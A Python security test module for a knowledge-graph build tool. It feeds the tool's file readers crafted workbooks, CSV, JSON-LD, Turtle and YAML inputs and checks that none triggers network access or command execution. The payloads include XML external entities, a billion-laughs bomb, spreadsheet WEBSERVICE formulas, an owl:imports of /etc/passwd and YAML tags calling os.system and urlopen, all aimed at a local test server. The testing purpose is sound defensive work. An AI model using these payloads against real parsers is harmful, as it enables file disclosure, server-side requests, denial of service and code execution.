"""T5 in files that users hand in: no table, ontology module or corpus makes a reader open a connection or run anything."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl

from kg_build import load
from kg_build.audit.table import evidence
from kg_build.pipeline import build
from ontology.errors import LeitgraphError
from tests.hostile.server import Count
from tests.test_build import small


def read(folder: Path, port: int) -> Count:
    """Each file is read as its users would; refused with a word, or read without what it points to."""
    count = Count("T5 files")
    folder.mkdir()
    for name, call in _calls(folder, f"http://127.0.0.1:{port}/x"):
        count.inputs += 1
        try:
            call()
            count.note("read")
        except LeitgraphError:
            count.note("refused")
        except Exception as fault:  # noqa: BLE001  every other error is a finding
            count.faults.append(f"{name}: {fault!r}")
    if (folder / "touched").exists():
        count.faults.append("a file made the reader run a command")
    return count


def _calls(folder: Path, there: str) -> Iterator[tuple[str, Callable[[], object]]]:
    for name, changed in _workbooks(there).items():
        path = folder / f"{name}.xlsx"
        path.write_bytes(changed)
        yield name, lambda path=path: evidence.read(path)
    for name, text in _tables(there).items():
        path = folder / name
        path.write_text(text, encoding="utf-8")
        yield name, lambda path=path: evidence.read(path)
    for number, module in enumerate(_modules(there)):
        corpus = small.corpus(folder / f"module{number}")
        head = corpus / "corpus.yaml"
        head.write_text(head.read_text().replace("domain: [oncology]", "domain: [oncology, domain.ttl]"))
        (corpus / "domain.ttl").write_text(module)
        home = folder / f"home{number}"
        yield f"module {number}", lambda corpus=corpus, home=home: build(small.settings(corpus, home))
    for number, value in enumerate(_values(folder, there)):
        corpus = small.corpus(
            folder / f"yaml{number}", study=small.STUDY.replace("value: 12.5", f"value: {value}")
        )
        yield f"yaml {value}", lambda corpus=corpus: load.load_corpus(corpus)


def _workbook() -> bytes:
    book = openpyxl.Workbook()
    book.active.append(["Study", "n", "HR"])
    book.active.append(["Gomez 2016", 49, "0,35"])
    content = io.BytesIO()
    book.save(content)
    return content.getvalue()


def _with(part: str, text: str) -> bytes:
    """A workbook with one of its parts replaced."""
    content = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(_workbook())) as old, zipfile.ZipFile(content, "w") as new:
        for each in old.namelist():
            if each != part:
                new.writestr(each, old.read(each))
        new.writestr(part, text)
    return content.getvalue()


def _workbooks(there: str) -> dict[str, bytes]:
    relations = "http://schemas.openxmlformats.org/package/2006/relationships"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    sheet = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    external = (
        f'<Relationships xmlns="{relations}"><Relationship Id="rId1" Type="{office}/worksheet" Target="{there}"'
        ' TargetMode="External"/></Relationships>'
    )
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{there}">]><sst xmlns="{sheet}" count="1" uniqueCount="1"><si><t>&e;</t></si></sst>'
    external_dtd = f'<!DOCTYPE sst SYSTEM "{there}"><sst xmlns="{sheet}" count="0" uniqueCount="0"/>'
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 8))
    bomb = f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]><sst xmlns="{sheet}"><si><t>&l7;</t></si></sst>'
    return {
        "external relation": _with("xl/_rels/workbook.xml.rels", external),
        "external entity": _with("xl/sharedStrings.xml", entity),
        "external DTD": _with("xl/sharedStrings.xml", external_dtd),
        "laughs": _with("xl/sharedStrings.xml", bomb),
        "entity in the sheet": _with("xl/worksheets/sheet1.xml", entity),
        "template": _with("xl/_rels/workbook.xml.rels", external.replace("worksheet", "attachedTemplate")),
    }


def _tables(there: str) -> dict[str, str]:
    return {
        "formula.csv": f'Study,n\n=WEBSERVICE("{there}"),1\n',
        "hyperlink.csv": f'Study,n\n"=HYPERLINK(""{there}"")",1\n',
        "context.jsonl": f'{{"@context": "{there}", "Study": "x", "n": 1}}\n',
        "reference.jsonl": f'{{"$ref": "{there}"}}\n',
    }


def _modules(there: str) -> tuple[str, ...]:
    owl, sh = "http://www.w3.org/2002/07/owl#", "http://www.w3.org/ns/shacl#"
    pointing = (
        f"<urn:module> a <{owl}Ontology> ; <{owl}imports> <{there}> , <file:///etc/passwd> ; <{sh}shapesGraph> <{there}> ; "
        f"<{sh}suggestedShapesGraph> <{there}> ; <{sh}entailment> <{there}> ."
    )
    return pointing, f"@base <{there}/> . <a> <b> <c> ."


def _values(folder: Path, there: str) -> tuple[str, ...]:
    touched = folder / "touched"
    return (
        f"!!python/object/apply:os.system ['touch {touched}']",
        f"!!python/object/apply:urllib.request.urlopen ['{there}']",
        f"!!python/name:urllib.request.urlopen {there}",
        f"!include {there}",
        f"!!binary {there}",
    )
